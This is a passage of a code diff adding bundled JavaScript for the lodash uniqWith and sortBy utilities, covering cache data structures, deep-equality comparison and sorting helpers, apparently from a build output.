+      data.push([key4, value]);
+    } else {
+      data[index][1] = value;
+    }
+    return this;
+  }
+  ListCache.prototype.clear = listCacheClear;
+  ListCache.prototype["delete"] = listCacheDelete;
+  ListCache.prototype.get = listCacheGet;
+  ListCache.prototype.has = listCacheHas;
+  ListCache.prototype.set = listCacheSet;
+  function MapCache(entries2) {
+    var index = -1, length = entries2 ? entries2.length : 0;
+    this.clear();
+    while (++index < length) {
+      var entry2 = entries2[index];
+      this.set(entry2[0], entry2[1]);
+    }
+  }
+  function mapCacheClear() {
+    this.__data__ = {
+      "hash": new Hash(),
+      "map": new (Map2 || ListCache)(),
+      "string": new Hash()
+    };
+  }
+  function mapCacheDelete(key4) {
+    return getMapData(this, key4)["delete"](key4);
+  }
+  function mapCacheGet(key4) {
+    return getMapData(this, key4).get(key4);
+  }
+  function mapCacheHas(key4) {
+    return getMapData(this, key4).has(key4);
+  }
+  function mapCacheSet(key4, value) {
+    getMapData(this, key4).set(key4, value);
+    return this;
+  }
+  MapCache.prototype.clear = mapCacheClear;
+  MapCache.prototype["delete"] = mapCacheDelete;
+  MapCache.prototype.get = mapCacheGet;
+  MapCache.prototype.has = mapCacheHas;
+  MapCache.prototype.set = mapCacheSet;
+  function SetCache(values2) {
+    var index = -1, length = values2 ? values2.length : 0;
+    this.__data__ = new MapCache();
+    while (++index < length) {
+      this.add(values2[index]);
+    }
+  }
+  function setCacheAdd(value) {
+    this.__data__.set(value, HASH_UNDEFINED);
+    return this;
+  }
+  function setCacheHas(value) {
+    return this.__data__.has(value);
+  }
+  SetCache.prototype.add = SetCache.prototype.push = setCacheAdd;
+  SetCache.prototype.has = setCacheHas;
+  function assocIndexOf(array2, key4) {
+    var length = array2.length;
+    while (length--) {
+      if (eq(array2[length][0], key4)) {
+        return length;
+      }
+    }
+    return -1;
+  }
+  function baseIsNative(value) {
+    if (!isObject2(value) || isMasked(value)) {
+      return false;
+    }
+    var pattern = isFunction(value) || isHostObject(value) ? reIsNative : reIsHostCtor;
+    return pattern.test(toSource(value));
+  }
+  function baseUniq(array2, iteratee, comparator) {
+    var index = -1, includes = arrayIncludes, length = array2.length, isCommon = true, result = [], seen = result;
+    if (comparator) {
+      isCommon = false;
+      includes = arrayIncludesWith;
+    } else if (length >= LARGE_ARRAY_SIZE) {
+      var set3 = createSet(array2);
+      if (set3) {
+        return setToArray(set3);
+      }
+      isCommon = false;
+      includes = cacheHas;
+      seen = new SetCache();
+    } else {
+      seen = result;
+    }
+    outer:
+      while (++index < length) {
+        var value = array2[index], computed = value;
+        value = comparator || value !== 0 ? value : 0;
+        if (isCommon && computed === computed) {
+          var seenIndex = seen.length;
+          while (seenIndex--) {
+            if (seen[seenIndex] === computed) {
+              continue outer;
+            }
+          }
+          result.push(value);
+        } else if (!includes(seen, computed, comparator)) {
+          if (seen !== result) {
+            seen.push(computed);
+          }
+          result.push(value);
+        }
+      }
+    return result;
+  }
+  var createSet = !(Set2 && 1 / setToArray(new Set2([, -0]))[1] == INFINITY) ? noop : function(values2) {
+    return new Set2(values2);
+  };
+  function getMapData(map5, key4) {
+    var data = map5.__data__;
+    return isKeyable(key4) ? data[typeof key4 == "string" ? "string" : "hash"] : data.map;
+  }
+  function getNative(object3, key4) {
+    var value = getValue(object3, key4);
+    return baseIsNative(value) ? value : void 0;
+  }
+  function isKeyable(value) {
+    var type = typeof value;
+    return type == "string" || type == "number" || type == "symbol" || type == "boolean" ? value !== "__proto__" : value === null;
+  }
+  function isMasked(func) {
+    return !!maskSrcKey && maskSrcKey in func;
+  }
+  function toSource(func) {
+    if (func != null) {
+      try {
+        return funcToString.call(func);
+      } catch (e) {
+      }
+      try {
+        return func + "";
+      } catch (e) {
+      }
+    }
+    return "";
+  }
+  function uniqWith(array2, comparator) {
+    return array2 && array2.length ? baseUniq(array2, void 0, comparator) : [];
+  }
+  function eq(value, other) {
+    return value === other || value !== value && other !== other;
+  }
+  function isFunction(value) {
+    var tag2 = isObject2(value) ? objectToString.call(value) : "";
+    return tag2 == funcTag || tag2 == genTag;
+  }
+  function isObject2(value) {
+    var type = typeof value;
+    return !!value && (type == "object" || type == "function");
+  }
+  function noop() {
+  }
+  lodash_uniqwith = uniqWith;
+  return lodash_uniqwith;
+}
+function requireLodash_sortby() {
+  if (hasRequiredLodash_sortby) return lodash_sortby.exports;
+  hasRequiredLodash_sortby = 1;
+  (function(module, exports$1) {
+    var LARGE_ARRAY_SIZE = 200;
+    var FUNC_ERROR_TEXT = "Expected a function";
+    var HASH_UNDEFINED = "__lodash_hash_undefined__";
+    var UNORDERED_COMPARE_FLAG = 1, PARTIAL_COMPARE_FLAG = 2;
+    var MAX_SAFE_INTEGER = 9007199254740991;
+    var argsTag = "[object Arguments]", arrayTag = "[object Array]", boolTag = "[object Boolean]", dateTag = "[object Date]", errorTag = "[object Error]", funcTag = "[object Function]", genTag = "[object GeneratorFunction]", mapTag = "[object Map]", numberTag = "[object Number]", objectTag = "[object Object]", promiseTag = "[object Promise]", regexpTag = "[object RegExp]", setTag = "[object Set]", stringTag = "[object String]", symbolTag = "[object Symbol]", weakMapTag = "[object WeakMap]";
+    var arrayBufferTag = "[object ArrayBuffer]", dataViewTag = "[object DataView]", float32Tag = "[object Float32Array]", float64Tag = "[object Float64Array]", int8Tag = "[object Int8Array]", int16Tag = "[object Int16Array]", int32Tag = "[object Int32Array]", uint8Tag = "[object Uint8Array]", uint8ClampedTag = "[object Uint8ClampedArray]", uint16Tag = "[object Uint16Array]", uint32Tag = "[object Uint32Array]";
+    var reIsDeepProp = /\.|\[(?:[^[\]]*|(["'])(?:(?!\1)[^\\]|\\.)*?\1)\]/, reIsPlainProp = /^\w*$/, reLeadingDot = /^\./, rePropName = /[^.[\]]+|\[(?:(-?\d+(?:\.\d+)?)|(["'])((?:(?!\2)[^\\]|\\.)*?)\2)\]|(?=(?:\.|\[\])(?:\.|\[\]|$))/g;
+    var reRegExpChar = /[\\^$.*+?()[\]{}|]/g;
+    var reEscapeChar = /\\(\\)?/g;
+    var reIsHostCtor = /^\[object .+?Constructor\]$/;
+    var reIsUint = /^(?:0|[1-9]\d*)$/;
+    var typedArrayTags = {};
+    typedArrayTags[float32Tag] = typedArrayTags[float64Tag] = typedArrayTags[int8Tag] = typedArrayTags[int16Tag] = typedArrayTags[int32Tag] = typedArrayTags[uint8Tag] = typedArrayTags[uint8ClampedTag] = typedArrayTags[uint16Tag] = typedArrayTags[uint32Tag] = true;
+    typedArrayTags[argsTag] = typedArrayTags[arrayTag] = typedArrayTags[arrayBufferTag] = typedArrayTags[boolTag] = typedArrayTags[dataViewTag] = typedArrayTags[dateTag] = typedArrayTags[errorTag] = typedArrayTags[funcTag] = typedArrayTags[mapTag] = typedArrayTags[numberTag] = typedArrayTags[objectTag] = typedArrayTags[regexpTag] = typedArrayTags[setTag] = typedArrayTags[stringTag] = typedArrayTags[weakMapTag] = false;
+    var freeGlobal = typeof commonjsGlobal == "object" && commonjsGlobal && commonjsGlobal.Object === Object && commonjsGlobal;
+    var freeSelf = typeof self == "object" && self && self.Object === Object && self;
+    var root = freeGlobal || freeSelf || Function("return this")();
+    var freeExports = exports$1 && !exports$1.nodeType && exports$1;
+    var freeModule = freeExports && true && module && !module.nodeType && module;
+    var moduleExports = freeModule && freeModule.exports === freeExports;
+    var freeProcess = moduleExports && freeGlobal.process;
+    var nodeUtil = (function() {
+      try {
+        return freeProcess && freeProcess.binding("util");
+      } catch (e) {
+      }
+    })();
+    var nodeIsTypedArray = nodeUtil && nodeUtil.isTypedArray;
+    function apply(func, thisArg, args5) {
+      switch (args5.length) {
+        case 0:
+          return func.call(thisArg);
+        case 1:
+          return func.call(thisArg, args5[0]);
+        case 2:
+          return func.call(thisArg, args5[0], args5[1]);
+        case 3:
+          return func.call(thisArg, args5[0], args5[1], args5[2]);
+      }
+      return func.apply(thisArg, args5);
+    }
+    function arrayMap(array2, iteratee) {
+      var index = -1, length = array2 ? array2.length : 0, result = Array(length);
+      while (++index < length) {
+        result[index] = iteratee(array2[index], index, array2);
+      }
+      return result;
+    }
+    function arrayPush(array2, values2) {
+      var index = -1, length = values2.length, offset = array2.length;
+      while (++index < length) {
+        array2[offset + index] = values2[index];
+      }
+      return array2;
+    }
+    function arraySome(array2, predicate) {
+      var index = -1, length = array2 ? array2.length : 0;
+      while (++index < length) {
+        if (predicate(array2[index], index, array2)) {
+          return true;
+        }
+      }
+      return false;
+    }
+    function baseProperty(key4) {
+      return function(object3) {
+        return object3 == null ? void 0 : object3[key4];
+      };
+    }
+    function baseSortBy(array2, comparer) {
+      var length = array2.length;
+      array2.sort(comparer);
+      while (length--) {
+        array2[length] = array2[length].value;
+      }
+      return array2;
+    }
+    function baseTimes(n, iteratee) {
+      var index = -1, result = Array(n);
+      while (++index < n) {
+        result[index] = iteratee(index);
+      }
+      return result;
+    }
+    function baseUnary(func) {
+      return function(value) {
+        return func(value);
+      };
+    }
+    function getValue(object3, key4) {
+      return object3 == null ? void 0 : object3[key4];
+    }
+    function isHostObject(value) {
+      var result = false;
+      if (value != null && typeof value.toString != "function") {
+        try {
+          result = !!(value + "");
+        } catch (e) {
+        }
+      }
+      return result;
+    }
+    function mapToArray(map5) {
+      var index = -1, result = Array(map5.size);
+      map5.forEach(function(value, key4) {
+        result[++index] = [key4, value];
+      });
+      return result;
+    }
+    function overArg(func, transform) {
+      return function(arg) {
+        return func(transform(arg));
+      };
+    }
+    function setToArray(set3) {
+      var index = -1, result = Array(set3.size);
+      set3.forEach(function(value) {
+        result[++index] = value;
+      });
+      return result;
+    }
+    var arrayProto = Array.prototype, funcProto = Function.prototype, objectProto = Object.prototype;
+    var coreJsData = root["__core-js_shared__"];
+    var maskSrcKey = (function() {
+      var uid = /[^.]+$/.exec(coreJsData && coreJsData.keys && coreJsData.keys.IE_PROTO || "");
+      return uid ? "Symbol(src)_1." + uid : "";
+    })();
+    var funcToString = funcProto.toString;
+    var hasOwnProperty = objectProto.hasOwnProperty;
+    var objectToString = objectProto.toString;
+    var reIsNative = RegExp(
+      "^" + funcToString.call(hasOwnProperty).replace(reRegExpChar, "\\$&").replace(/hasOwnProperty|(function).*?(?=\\\()| for .+?(?=\\\])/g, "$1.*?") + "$"
+    );
+    var Symbol2 = root.Symbol, Uint8Array2 = root.Uint8Array, propertyIsEnumerable = objectProto.propertyIsEnumerable, splice2 = arrayProto.splice, spreadableSymbol = Symbol2 ? Symbol2.isConcatSpreadable : void 0;
+    var nativeKeys = overArg(Object.keys, Object), nativeMax = Math.max;
+    var DataView = getNative(root, "DataView"), Map2 = getNative(root, "Map"), Promise2 = getNative(root, "Promise"), Set2 = getNative(root, "Set"), WeakMap2 = getNative(root, "WeakMap"), nativeCreate = getNative(Object, "create");
+    var dataViewCtorString = toSource(DataView), mapCtorString = toSource(Map2), promiseCtorString = toSource(Promise2), setCtorString = toSource(Set2), weakMapCtorString = toSource(WeakMap2);
+    var symbolProto = Symbol2 ? Symbol2.prototype : void 0, symbolValueOf = symbolProto ? symbolProto.valueOf : void 0, symbolToString = symbolProto ? symbolProto.toString : void 0;
+    function Hash(entries2) {
+      var index = -1, length = entries2 ? entries2.length : 0;
+      this.clear();
+      while (++index < length) {
+        var entry2 = entries2[index];
+        this.set(entry2[0], entry2[1]);
+      }
+    }
+    function hashClear() {
+      this.__data__ = nativeCreate ? nativeCreate(null) : {};
+    }
+    function hashDelete(key4) {
+      return this.has(key4) && delete this.__data__[key4];
+    }
+    function hashGet(key4) {
+      var data = this.__data__;
+      if (nativeCreate) {
+        var result = data[key4];
+        return result === HASH_UNDEFINED ? void 0 : result;
+      }
+      return hasOwnProperty.call(data, key4) ? data[key4] : void 0;
+    }
+    function hashHas(key4) {
+      var data = this.__data__;
+      return nativeCreate ? data[key4] !== void 0 : hasOwnProperty.call(data, key4);
+    }
+    function hashSet(key4, value) {
+      var data = this.__data__;
+      data[key4] = nativeCreate && value === void 0 ? HASH_UNDEFINED : value;
+      return this;
+    }
+    Hash.prototype.clear = hashClear;
+    Hash.prototype["delete"] = hashDelete;
+    Hash.prototype.get = hashGet;
+    Hash.prototype.has = hashHas;
+    Hash.prototype.set = hashSet;
+    function ListCache(entries2) {
+      var index = -1, length = entries2 ? entries2.length : 0;
+      this.clear();
+      while (++index < length) {
+        var entry2 = entries2[index];
+        this.set(entry2[0], entry2[1]);
+      }
+    }
+    function listCacheClear() {
+      this.__data__ = [];
+    }
+    function listCacheDelete(key4) {
+      var data = this.__data__, index = assocIndexOf(data, key4);
+      if (index < 0) {
+        return false;
+      }
+      var lastIndex = data.length - 1;
+      if (index == lastIndex) {
+        data.pop();
+      } else {
+        splice2.call(data, index, 1);
+      }
+      return true;
+    }
+    function listCacheGet(key4) {
+      var data = this.__data__, index = assocIndexOf(data, key4);
+      return index < 0 ? void 0 : data[index][1];
+    }
+    function listCacheHas(key4) {
+      return assocIndexOf(this.__data__, key4) > -1;
+    }
+    function listCacheSet(key4, value) {
+      var data = this.__data__, index = assocIndexOf(data, key4);
+      if (index < 0) {
+        data.push([key4, value]);
+      } else {
+        data[index][1] = value;
+      }
+      return this;
+    }
+    ListCache.prototype.clear = listCacheClear;
+    ListCache.prototype["delete"] = listCacheDelete;
+    ListCache.prototype.get = listCacheGet;
+    ListCache.prototype.has = listCacheHas;
+    ListCache.prototype.set = listCacheSet;
+    function MapCache(entries2) {
+      var index = -1, length = entries2 ? entries2.length : 0;
+      this.clear();
+      while (++index < length) {
+        var entry2 = entries2[index];
+        this.set(entry2[0], entry2[1]);
+      }
+    }
+    function mapCacheClear() {
+      this.__data__ = {
+        "hash": new Hash(),
+        "map": new (Map2 || ListCache)(),
+        "string": new Hash()
+      };
+    }
+    function mapCacheDelete(key4) {
+      return getMapData(this, key4)["delete"](key4);
+    }
+    function mapCacheGet(key4) {
+      return getMapData(this, key4).get(key4);
+    }
+    function mapCacheHas(key4) {
+      return getMapData(this, key4).has(key4);
+    }
+    function mapCacheSet(key4, value) {
+      getMapData(this, key4).set(key4, value);
+      return this;
+    }
+    MapCache.prototype.clear = mapCacheClear;
+    MapCache.prototype["delete"] = mapCacheDelete;
+    MapCache.prototype.get = mapCacheGet;
+    MapCache.prototype.has = mapCacheHas;
+    MapCache.prototype.set = mapCacheSet;
+    function SetCache(values2) {
+      var index = -1, length = values2 ? values2.length : 0;
+      this.__data__ = new MapCache();
+      while (++index < length) {
+        this.add(values2[index]);
+      }
+    }
+    function setCacheAdd(value) {
+      this.__data__.set(value, HASH_UNDEFINED);
+      return this;
+    }
+    function setCacheHas(value) {
+      return this.__data__.has(value);
+    }
+    SetCache.prototype.add = SetCache.prototype.push = setCacheAdd;
+    SetCache.prototype.has = setCacheHas;
+    function Stack(entries2) {
+      this.__data__ = new ListCache(entries2);
+    }
+    function stackClear() {
+      this.__data__ = new ListCache();
+    }
+    function stackDelete(key4) {
+      return this.__data__["delete"](key4);
+    }
+    function stackGet(key4) {
+      return this.__data__.get(key4);
+    }
+    function stackHas(key4) {
+      return this.__data__.has(key4);
+    }
+    function stackSet(key4, value) {
+      var cache3 = this.__data__;
+      if (cache3 instanceof ListCache) {
+        var pairs = cache3.__data__;
+        if (!Map2 || pairs.length < LARGE_ARRAY_SIZE - 1) {
+          pairs.push([key4, value]);
+          return this;
+        }
+        cache3 = this.__data__ = new MapCache(pairs);
+      }
+      cache3.set(key4, value);
+      return this;
+    }
+    Stack.prototype.clear = stackClear;
+    Stack.prototype["delete"] = stackDelete;
+    Stack.prototype.get = stackGet;
+    Stack.prototype.has = stackHas;
+    Stack.prototype.set = stackSet;
+    function arrayLikeKeys(value, inherited3) {
+      var result = isArray(value) || isArguments(value) ? baseTimes(value.length, String) : [];
+      var length = result.length, skipIndexes = !!length;
+      for (var key4 in value) {
+        if (hasOwnProperty.call(value, key4) && !(skipIndexes && (key4 == "length" || isIndex(key4, length)))) {
+          result.push(key4);
+        }
+      }
+      return result;
+    }
+    function assocIndexOf(array2, key4) {
+      var length = array2.length;
+      while (length--) {
+        if (eq(array2[length][0], key4)) {
+          return length;
+        }
+      }
+      return -1;
+    }
+    var baseEach = createBaseEach(baseForOwn);
+    function baseFlatten(array2, depth, predicate, isStrict2, result) {
+      var index = -1, length = array2.length;
+      predicate || (predicate = isFlattenable);
+      result || (result = []);
+      while (++index < length) {
+        var value = array2[index];
+        if (predicate(value)) {
+          {
+            arrayPush(result, value);
+          }
+        } else {
+          result[result.length] = value;
+        }
+      }
+      return result;
+    }
+    var baseFor = createBaseFor();
+    function baseForOwn(object3, iteratee) {
+      return object3 && baseFor(object3, iteratee, keys);
+    }
+    function baseGet(object3, path26) {
+      path26 = isKey(path26, object3) ? [path26] : castPath(path26);
+      var index = 0, length = path26.length;
+      while (object3 != null && index < length) {
+        object3 = object3[toKey(path26[index++])];
+      }
+      return index && index == length ? object3 : void 0;
+    }
+    function baseGetTag(value) {
+      return objectToString.call(value);
+    }
+    function baseHasIn(object3, key4) {
+      return object3 != null && key4 in Object(object3);
+    }
+    function baseIsEqual(value, other, customizer, bitmask, stack) {
+      if (value === other) {
+        return true;
+      }
+      if (value == null || other == null || !isObject2(value) && !isObjectLike(other)) {
+        return value !== value && other !== other;
+      }
+      return baseIsEqualDeep(value, other, baseIsEqual, customizer, bitmask, stack);
+    }
+    function baseIsEqualDeep(object3, other, equalFunc, customizer, bitmask, stack) {
+      var objIsArr = isArray(object3), othIsArr = isArray(other), objTag = arrayTag, othTag = arrayTag;
+      if (!objIsArr) {
+        objTag = getTag(object3);
+        objTag = objTag == argsTag ? objectTag : objTag;
+      }
+      if (!othIsArr) {
+        othTag = getTag(other);
+        othTag = othTag == argsTag ? objectTag : othTag;
+      }
+      var objIsObj = objTag == objectTag && !isHostObject(object3), othIsObj = othTag == objectTag && !isHostObject(other), isSameTag = objTag == othTag;
+      if (isSameTag && !objIsObj) {
+        stack || (stack = new Stack());
+        return objIsArr || isTypedArray(object3) ? equalArrays(object3, other, equalFunc, customizer, bitmask, stack) : equalByTag(object3, other, objTag, equalFunc, customizer, bitmask, stack);
+      }
+      if (!(bitmask & PARTIAL_COMPARE_FLAG)) {
+        var objIsWrapped = objIsObj && hasOwnProperty.call(object3, "__wrapped__"), othIsWrapped = othIsObj && hasOwnProperty.call(other, "__wrapped__");
+        if (objIsWrapped || othIsWrapped) {
+          var objUnwrapped = objIsWrapped ? object3.value() : object3, othUnwrapped = othIsWrapped ? other.value() : other;
+          stack || (stack = new Stack());
+          return equalFunc(objUnwrapped, othUnwrapped, customizer, bitmask, stack);
+        }
+      }
+      if (!isSameTag) {
+        return false;
+      }
+      stack || (stack = new Stack());
+      return equalObjects(object3, other, equalFunc, customizer, bitmask, stack);
+    }
+    function baseIsMatch(object3, source, matchData, customizer) {
+      var index = matchData.length, length = index;
+      if (object3 == null) {
+        return !length;
+      }
+      object3 = Object(object3);
+      while (index--) {
+        var data = matchData[index];
+        if (data[2] ? data[1] !== object3[data[0]] : !(data[0] in object3)) {
+          return false;
+        }
+      }
+      while (++index < length) {
+        data = matchData[index];
+        var key4 = data[0], objValue = object3[key4], srcValue = data[1];
+        if (data[2]) {
+          if (objValue === void 0 && !(key4 in object3)) {
+            return false;
+          }
+        } else {
+          var stack = new Stack();
+          var result;
+          if (!(result === void 0 ? baseIsEqual(srcValue, objValue, customizer, UNORDERED_COMPARE_FLAG | PARTIAL_COMPARE_FLAG, stack) : result)) {
+            return false;
+          }
+        }
+      }
+      return true;
+    }
+    function baseIsNative(value) {
+      if (!isObject2(value) || isMasked(value)) {
+        return false;
+      }
+      var pattern = isFunction(value) || isHostObject(value) ? reIsNative : reIsHostCtor;
+      return pattern.test(toSource(value));
+    }
+    function baseIsTypedArray(value) {
+      return isObjectLike(value) && isLength(value.length) && !!typedArrayTags[objectToString.call(value)];
+    }
+    function baseIteratee(value) {
+      if (typeof value == "function") {
+        return value;
+      }
+      if (value == null) {
+        return identity;
+      }
+      if (typeof value == "object") {
+        return isArray(value) ? baseMatchesProperty(value[0], value[1]) : baseMatches(value);
+      }
+      return property(value);
+    }
+    function baseKeys(object3) {
+      if (!isPrototype(object3)) {
+        return nativeKeys(object3);
+      }
+      var result = [];
+      for (var key4 in Object(object3)) {
+        if (hasOwnProperty.call(object3, key4) && key4 != "constructor") {
+          result.push(key4);
+        }
+      }
+      return result;
+    }
+    function baseMap(collection, iteratee) {
+      var index = -1, result = isArrayLike(collection) ? Array(collection.length) : [];
+      baseEach(collection, function(value, key4, collection2) {
+        result[++index] = iteratee(value, key4, collection2);
+      });
+      return result;
+    }
+    function baseMatches(source) {
+      var matchData = getMatchData(source);
+      if (matchData.length == 1 && matchData[0][2]) {
+        return matchesStrictComparable(matchData[0][0], matchData[0][1]);
+      }
+      return function(object3) {
+        return object3 === source || baseIsMatch(object3, source, matchData);
+      };
+    }
+    function baseMatchesProperty(path26, srcValue) {
+      if (isKey(path26) && isStrictComparable(srcValue)) {
+        return matchesStrictComparable(toKey(path26), srcValue);
+      }
+      return function(object3) {
+        var objValue = get2(object3, path26);
+        return objValue === void 0 && objValue === srcValue ? hasIn(object3, path26) : baseIsEqual(srcValue, objValue, void 0, UNORDERED_COMPARE_FLAG | PARTIAL_COMPARE_FLAG);
+      };
+    }
+    function baseOrderBy(collection, iteratees, orders) {
+      var index = -1;
+      iteratees = arrayMap(iteratees.length ? iteratees : [identity], baseUnary(baseIteratee));
+      var result = baseMap(collection, function(value, key4, collection2) {
+        var criteria = arrayMap(iteratees, function(iteratee) {
+          return iteratee(value);
+        });
+        return { "criteria": criteria, "index": ++index, "value": value };
+      });
+      return baseSortBy(result, function(object3, other) {
+        return compareMultiple(object3, other, orders);
+      });
+    }
+    function basePropertyDeep(path26) {
+      return function(object3) {
+        return baseGet(object3, path26);
+      };
+    }
+    function baseRest(func, start2) {
+      start2 = nativeMax(start2 === void 0 ? func.length - 1 : start2, 0);
+      return function() {
+        var args5 = arguments, index = -1, length = nativeMax(args5.length - start2, 0), array2 = Array(length);
+        while (++index < length) {
+          array2[index] = args5[start2 + index];
+        }
+        index = -1;
+        var otherArgs = Array(start2 + 1);
+        while (++index < start2) {
+          otherArgs[index] = args5[index];
+        }
+        otherArgs[start2] = array2;
+        return apply(func, this, otherArgs);
+      };
+    }
+    function baseToString(value) {
+      if (typeof value == "string") {
+        return value;
+      }
+      if (isSymbol(value)) {
+        return symbolToString ? symbolToString.call(value) : "";
+      }
+      var result = value + "";
+      return result == "0" && 1 / value == -Infinity ? "-0" : result;
+    }
+    function castPath(value) {
+      return isArray(value) ? value : stringToPath(value);
+    }
+    function compareAscending(value, other) {
+      if (value !== other) {
+        var valIsDefined = value !== void 0, valIsNull = value === null, valIsReflexive = value === value, valIsSymbol = isSymbol(value);
+        var othIsDefined = other !== void 0, othIsNull = other === null, othIsReflexive = other === other, othIsSymbol = isSymbol(other);
+        if (!othIsNull && !othIsSymbol && !valIsSymbol && value > other || valIsSymbol && othIsDefined && othIsReflexive && !othIsNull && !othIsSymbol || valIsNull && othIsDefined && othIsReflexive || !valIsDefined && othIsReflexive || !valIsReflexive) {
+          return 1;
+        }
+        if (!valIsNull && !valIsSymbol && !othIsSymbol && value < other || othIsSymbol && valIsDefined && valIsReflexive && !valIsNull && !valIsSymbol || othIsNull && valIsDefined && valIsReflexive || !othIsDefined && valIsReflexive || !othIsReflexive) {
+          return -1;
+        }
+      }
+      return 0;
+    }
+    function compareMultiple(object3, other, orders) {
+      var index = -1, objCriteria = object3.criteria, othCriteria = other.criteria, length = objCriteria.length, ordersLength = orders.length;
+      while (++index < length) {
+        var result = compareAscending(objCriteria[index], othCriteria[index]);
+        if (result) {
+          if (index >= ordersLength) {
+            return result;
+          }
+          var order2 = orders[index];
+          return result * (order2 == "desc" ? -1 : 1);
+        }
+      }
+      return object3.index - other.index;
+    }
+    function createBaseEach(eachFunc, fromRight) {
+      return function(collection, iteratee) {
+        if (collection == null) {
+          return collection;
+        }
+        if (!isArrayLike(collection)) {
+          return eachFunc(collection, iteratee);
+        }
+        var length = collection.length, index = -1, iterable = Object(collection);
+        while (++index < length) {
+          if (iteratee(iterable[index], index, iterable) === false) {
+            break;
+          }
+        }
+        return collection;
+      };
+    }
+    function createBaseFor(fromRight) {
+      return function(object3, iteratee, keysFunc) {
+        var index = -1, iterable = Object(object3), props = keysFunc(object3), length = props.length;
+        while (length--) {
+          var key4 = props[++index];
+          if (iteratee(iterable[key4], key4, iterable) === false) {
+            break;
+          }
+        }
+        return object3;
+      };
+    }
+    function equalArrays(array2, other, equalFunc, customizer, bitmask, stack) {
+      var isPartial4 = bitmask & PARTIAL_COMPARE_FLAG, arrLength = array2.length, othLength = other.length;
+      if (arrLength != othLength && !(isPartial4 && othLength > arrLength)) {
+        return false;
+      }
+      var stacked = stack.get(array2);
+      if (stacked && stack.get(other)) {
+        return stacked == other;
+      }
+      var index = -1, result = true, seen = bitmask & UNORDERED_COMPARE_FLAG ? new SetCache() : void 0;
+      stack.set(array2, other);
+      stack.set(other, array2);
+      while (++index < arrLength) {
+        var arrValue = array2[index], othValue = other[index];
+        if (customizer) {
+          var compared = isPartial4 ? customizer(othValue, arrValue, index, other, array2, stack) : customizer(arrValue, othValue, index, array2, other, stack);
+        }
+        if (compared !== void 0) {
+          if (compared) {
+            continue;
+          }
+          result = false;
+          break;
+        }
+        if (seen) {
+          if (!arraySome(other, function(othValue2, othIndex) {
+            if (!seen.has(othIndex) && (arrValue === othValue2 || equalFunc(arrValue, othValue2, customizer, bitmask, stack))) {
+              return seen.add(othIndex);
+            }
+          })) {
+            result = false;
+            break;
+          }
+        } else if (!(arrValue === othValue || equalFunc(arrValue, othValue, customizer, bitmask, stack))) {
+          result = false;
+          break;
+        }
+      }
+      stack["delete"](array2);
+      stack["delete"](other);
+      return result;
+    }
+    function equalByTag(object3, other, tag2, equalFunc, customizer, bitmask, stack) {
+      switch (tag2) {
+        case dataViewTag:
+          if (object3.byteLength != other.byteLength || object3.byteOffset != other.byteOffset) {
+            return false;
+          }
+          object3 = object3.buffer;
+          other = other.buffer;
+        case arrayBufferTag:
+          if (object3.byteLength != other.byteLength || !equalFunc(new Uint8Array2(object3), new Uint8Array2(other))) {
+            return false;
+          }
+          return true;
+        case boolTag:
+        case dateTag:
+        case numberTag:
+          return eq(+object3, +other);
+        case errorTag:
+          return object3.name == other.name && object3.message == other.message;
+        case regexpTag:
+        case stringTag:
+          return object3 == other + "";
+        case mapTag:
+          var convert = mapToArray;
+        case setTag:
+          var isPartial4 = bitmask & PARTIAL_COMPARE_FLAG;
+          convert || (convert = setToArray);
+          if (object3.size != other.size && !isPartial4) {
+            return false;
+          }
+          var stacked = stack.get(object3);
+          if (stacked) {
+            return stacked == other;
+          }
+          bitmask |= UNORDERED_COMPARE_FLAG;
+          stack.set(object3, other);
+          var result = equalArrays(convert(object3), convert(other), equalFunc, customizer, bitmask, stack);
+          stack["delete"](object3);
+          return result;
+        case symbolTag:
+          if (symbolValueOf) {
+            return symbolValueOf.call(object3) == symbolValueOf.call(other);
+          }
+      }
+      return false;
+    }
+    function equalObjects(object3, other, equalFunc, customizer, bitmask, stack) {
+      var isPartial4 = bitmask & PARTIAL_COMPARE_FLAG, objProps = keys(object3), objLength = objProps.length, othProps = keys(other), othLength = othProps.length;
+      if (objLength != othLength && !isPartial4) {
+        return false;
+      }
+      var index = objLength;
+      while (index--) {
+        var key4 = objProps[index];
+        if (!(isPartial4 ? key4 in other : hasOwnProperty.call(other, key4))) {
+          return false;
+        }
+      }
+      var stacked = stack.get(object3);
+      if (stacked && stack.get(other)) {
+        return stacked == other;
+      }
+      var result = true;
+      stack.set(object3, other);
+      stack.set(other, object3);
+      var skipCtor = isPartial4;
+      while (++index < objLength) {
+        key4 = objProps[index];
+        var objValue = object3[key4], othValue = other[key4];
+        if (customizer) {
+          var compared = isPartial4 ? customizer(othValue, objValue, key4, other, object3, stack) : customizer(objValue, othValue, key4, object3, other, stack);
+        }
+        if (!(compared === void 0 ? objValue === othValue || equalFunc(objValue, othValue, customizer, bitmask, stack) : compared)) {
+          result = false;
+          break;
+        }
+        skipCtor || (skipCtor = key4 == "constructor");
+      }
+      if (result && !skipCtor) {
+        var objCtor = object3.constructor, othCtor = other.constructor;
+        if (objCtor != othCtor && ("constructor" in object3 && "constructor" in other) && !(typeof objCtor == "function" && objCtor instanceof objCtor && typeof othCtor == "function" && othCtor instanceof othCtor)) {
+          result = false;
+        }
+      }
+      stack["delete"](object3);
+      stack["delete"](other);
+      return result;
+    }
+    function getMapData(map5, key4) {
+      var data = map5.__data__;
+      return isKeyable(key4) ? data[typeof key4 == "string" ? "string" : "hash"] : data.map;
+    }
+    function getMatchData(object3) {
+      var result = keys(object3), length = result.length;
+      while (length--) {
+        var key4 = result[length], value = object3[key4];
+        result[length] = [key4, value, isStrictComparable(value)];
+      }
+      return result;
+    }
+    function getNative(object3, key4) {
+      var value = getValue(object3, key4);
+      return baseIsNative(value) ? value : void 0;
+    }
+    var getTag = baseGetTag;
+    if (DataView && getTag(new DataView(new ArrayBuffer(1))) != dataViewTag || Map2 && getTag(new Map2()) != mapTag || Promise2 && getTag(Promise2.resolve()) != promiseTag || Set2 && getTag(new Set2()) != setTag || WeakMap2 && getTag(new WeakMap2()) != weakMapTag) {
+      getTag = function(value) {
+        var result = objectToString.call(value), Ctor = result == objectTag ? value.constructor : void 0, ctorString = Ctor ? toSource(Ctor) : void 0;
+        if (ctorString) {
+          switch (ctorString) {
+            case dataViewCtorString:
+              return dataViewTag;
+            case mapCtorString:
+              return mapTag;
+            case promiseCtorString:
+              return promiseTag;
+            case setCtorString:
+              return setTag;
+            case weakMapCtorString:
+              return weakMapTag;
+          }
+        }
+        return result;
+      };
+    }
+    function hasPath(object3, path26, hasFunc) {
